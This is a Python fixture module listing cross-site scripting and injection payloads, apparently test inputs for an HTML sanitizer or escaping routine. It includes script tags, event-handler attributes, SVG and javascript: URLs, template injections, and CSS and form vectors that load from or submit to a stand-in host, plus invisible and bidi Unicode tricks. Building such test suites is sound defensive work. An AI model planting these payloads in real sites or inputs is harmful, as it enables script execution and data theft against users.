"""Texts that a careless page would run, load, or show as something else.

Whatever of them runs calls `hurt()`; whatever loads asks for `elsewhere.invalid`.
"""

FAR = "http://elsewhere.invalid"

TEXTS = (
    # Scripts, plain and out of every kind of quotes.
    "<script>hurt()</script>",
    "</script><script>hurt()</script>",
    "<ScRiPt >hurt()</sCrIpT>",
    f"<script src={FAR}/x.js></script>",
    "<script type=module>hurt()</script>",
    '"><script>hurt()</script>',
    "'><script>hurt()</script>",
    "`><script>hurt()</script>",
    "</title><script>hurt()</script>",
    "</textarea></style></noscript><script>hurt()</script>",
    "<!--><script>hurt()</script-->",
    "<scr<script>ipt>hurt()</scr</script>ipt>",
    # Handlers of events.
    "<img src=x onerror=hurt()>",
    "<img src=x onerror=&#104;urt()>",
    '" onmouseover="hurt()" autofocus onfocus="hurt()" x="',
    "' onfocus='hurt()' autofocus tabindex='0",
    "<body onload=hurt()>",
    "<input autofocus onfocus=hurt()>",
    "<details open ontoggle=hurt()>",
    "<video><source onerror=hurt()></video>",
    "<marquee onstart=hurt()>x</marquee>",
    "<button popovertarget=x onbeforetoggle=hurt()>x</button>",
    # SVG and MathML.
    "<svg onload=hurt()>",
    "<svg><script>hurt()</script></svg>",
    "<svg><animate onbegin=hurt() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:hurt()'><text y=9>x</text></a></svg>",
    "</text><svg><foreignObject><img src=x onerror=hurt()></foreignObject></svg>",
    "<math><mtext><img src=x onerror=hurt()></mtext></math>",
    # Addresses that are scripts, and frames.
    "javascript:hurt()",
    "JaVaScRiPt:hurt()//",
    "java\u00adscript:hurt()",
    "data:text/html,<script>parent.hurt()</script>",
    "vbscript:hurt()",
    f'<a href="javascript:hurt()">click</a><base href="{FAR}/">',
    "<iframe src=javascript:parent.hurt()></iframe>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    f"<object data={FAR}/x.swf></object><embed src={FAR}/x>",
    f"<form action={FAR}><button>send</button></form>",
    f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    # Styles.
    f"<link rel=stylesheet href={FAR}/x.css>",
    f"<style>*{{background:url({FAR}/x)}}</style>",
    f"</style><div style='background:url({FAR}/y);position:fixed;inset:0'>",
    f"red;background:url({FAR}/z)",
    # Templates of all kinds.
    "{{constructor.constructor('hurt()')()}}",
    "${hurt()} #{hurt()} <%= hurt() %> {% hurt() %}",
    '[click](javascript:hurt()) ![x](x"onerror="hurt())',
    # Entities and escapes: to be shown as they are, not as what they stand for.
    "&lt;script&gt;hurt()&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "\\u003cscript\\u003ehurt()\\u003c/script\\u003e \\x3cimg\\x3e %3Cscript%3E",
    # Directions of writing, and letters that nobody sees.
    "safe\u202egnp.exe\u202d \u2066isolated\u2069 \u200fright\u200e",
    "in\u200bvis\ufeffible \u2060\U000e0041tag",
    "Z\u0351\u0310\u0343a\u0346\u0352l\u033d\u0368g\u0310o " * 8,
    # Names that objects have already.
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "[object Object]",
    # Very long.
    "<b>" * 40 + "long" * 30,
    "W" * 256,
)
